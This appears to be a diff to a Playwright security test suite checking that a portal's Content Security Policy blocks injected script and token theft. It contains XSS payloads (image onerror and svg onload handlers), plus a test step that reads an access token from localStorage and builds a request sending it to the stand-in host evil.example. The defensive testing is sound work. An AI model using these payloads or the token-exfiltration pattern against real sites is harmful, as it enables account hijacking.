@@ -1,4 +1,4 @@
-import type { Page } from '@playwright/test';
+import type { Page, Request } from '@playwright/test';
 import { paths } from '@portal/shared/routing';
 import { operate } from '../fixtures/operator.ts';
 import { expect, test } from '../fixtures/test.ts';
@@ -8,7 +8,7 @@ const lagoon = origin('lagoon');
 
 /** What the browser says when the policy stops something. */
 const REFUSALS =
-  /csp:|Content Security Policy|TrustedHTML|TrustedScript|Trusted Type|violates the following|ERR_BLOCKED_BY_CSP|blocked:csp|Failed to execute/;
+  /csp:| csp$|Content Security Policy|TrustedHTML|TrustedScript|Trusted Type|violates the following|ERR_BLOCKED_BY_CSP|blocked:csp|Failed to execute/;
 
 const canary = 'globalThis.__hacked=true';
 
@@ -37,13 +37,16 @@ const XSS = [
 
 const texts = (text: string) => ({ ko: text, en: text, 'zh-CN': text, 'zh-TW': text });
 
-/** Addresses outside of the portal that the page asked for. */
+/** Addresses outside of the portal that were asked for; what the policy stops is announced, and never leaves. */
 function strangersOf(page: Page) {
   const strangers: string[] = [];
-  page.on('request', (request) => {
+  const note = (request: Request) => {
     const { protocol, origin: asked } = new URL(request.url());
-    if (protocol.startsWith('http') && asked !== lagoon) strangers.push(request.url());
-  });
+    const isStopped = request.failure()?.errorText === 'csp';
+    if (protocol.startsWith('http') && asked !== lagoon && !isStopped) strangers.push(request.url());
+  };
+  page.on('requestfinished', note);
+  page.on('requestfailed', note);
   return strangers;
 }
 
@@ -59,6 +62,7 @@ test('T-01 markup in what people write is shown as words and never runs', async 
   const title = `T-01 <img src=x onerror="${canary}"> <svg onload=${canary}>`;
   const { notice } = await operate('/operator/notices', {
     domain: 'lagoon.localhost',
+    category: 'general',
     title: texts(title),
     body: texts(`<h2>T-01</h2>${XSS}`),
     pinned: true,
@@ -112,6 +116,8 @@ test('T-02 T-03 an attacker’s line on the page neither runs code nor gets the 
   expect(token).not.toBe('');
 
   const results = await page.evaluate(async (line) => {
+    // What the debugger evaluates is exempt from the policy as long as it runs at a stretch.
+    await new Promise((resolve) => setTimeout(resolve));
     const stolen = localStorage.getItem('access_token') ?? '';
     const evil = `https://evil.example/?t=${stolen}`;
     const attempts: Record<string, () => unknown> = {
@@ -200,7 +206,7 @@ test('T-02 T-03 an attacker’s line on the page neither runs code nor gets the 
   expect(results.thrown).toEqual(
     expect.arrayContaining(['innerHTML with a handler', 'eval', 'new Function', 'fetch']),
   );
-  expect(strangers.filter((url) => url.includes('evil.example'))).toEqual([]);
+  expect(strangers).toEqual([]);
   expect(page.url()).toBe(lagoon + paths.language.path);
   await expect.poll(() => reports.length).toBeGreaterThan(0);
   // What remains open, and is known: no policy stops a page from being left with the token in the address.
@@ -239,7 +245,8 @@ test('T-07 signing out without a connection leaves nothing on any tab, nor behin
 
   expect(await page.evaluate(() => localStorage.length)).toBe(0);
   for (let step = 0; step < 3; step += 1) {
-    await page.goBack().catch(() => null);
+    await page.goBack();
+    if (page.url() === 'about:blank') break;
     await expect(page.locator('form')).toBeVisible();
     expect(await page.locator('body').innerText()).not.toContain(seen);
   }
@@ -277,5 +284,6 @@ test('T-08 neither password, token nor address of a person stands in an address,
   // Source maps are not among what is served.
   const script = await page.locator('script[src]').first().getAttribute('src');
   problems.expect(/status of 404/);
-  expect((await page.request.get(`${lagoon}${script}.map`)).status()).toBe(404);
+  const status = await page.evaluate(async (address) => (await fetch(address)).status, `${script ?? ''}.map`);
+  expect(status).toBe(404);
 });
